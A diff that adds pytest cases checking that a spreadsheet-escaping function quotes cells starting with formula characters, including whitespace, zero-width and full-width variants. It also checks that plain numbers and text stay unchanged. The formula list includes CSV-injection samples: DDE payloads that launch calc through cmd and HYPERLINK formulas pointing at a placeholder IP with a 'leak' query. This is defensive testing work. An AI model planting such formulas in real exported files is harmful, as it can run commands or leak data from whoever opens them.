@@ -260,6 +260,31 @@ def test_xlsx_survives_characters_xml_forbids_and_keeps_codes_as_text(tmp_path: 
     assert sheet["A3"].data_type == "s"  # text, not a formula
 
 
+
+# Cells a spreadsheet could run (OWASP's list, and the same signs after leading whitespace,
+# zero-width or control characters and in full-width form), and cells that must stay as written.
+FORMULA_CELLS = [
+    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\tabc", " =1+1", "  +1+1", "\u3000=1+1", "\u00a0=1+1",
+    "\u200b=1+1", "\ufeff=1+1", "\n=1+1", "\r\n-1+1", "\x00=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", "﹦1+1",
+    "\u3000＝HYPERLINK(\"http://198.51.100.7/\",\"x\")", "=HYPERLINK(\"http://198.51.100.7/?leak\",\"点我\")",
+    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3", " -120",
+]
+PLAIN_CELLS = ["-120", "+6.5%", "-1,200.5", "007", "123456789012345678", "\u3000\u3000段落", "1+1=2", "'=1+1", "a;=1+1", "(1+1)", ""]
+
+
+@pytest.mark.parametrize("cell", FORMULA_CELLS)
+def test_spreadsheet_text_quotes_every_formula_start(cell: str) -> None:
+    from nianjian.escaping import spreadsheet_text
+
+    assert spreadsheet_text(cell) == "'" + cell
+
+
+@pytest.mark.parametrize("cell", PLAIN_CELLS)
+def test_spreadsheet_text_keeps_numbers_and_text(cell: str) -> None:
+    from nianjian.escaping import spreadsheet_text
+
+    assert spreadsheet_text(cell) == cell
+
 BUILD_CASES = [
     Case("recursive alias (used to hang the build)", year_file("year: 2021\nsections: &a\n  - *a\n"), (("data/years/2021.yaml:3:5", "不支持 YAML 引用"),)),
     Case("GBK search words (jieba's traceback)", lambda data: (data / "search-words.txt").write_bytes("食堂 100 n\n".encode("gbk")), (("data/search-words.txt:1:", "GBK/GB18030"),)),
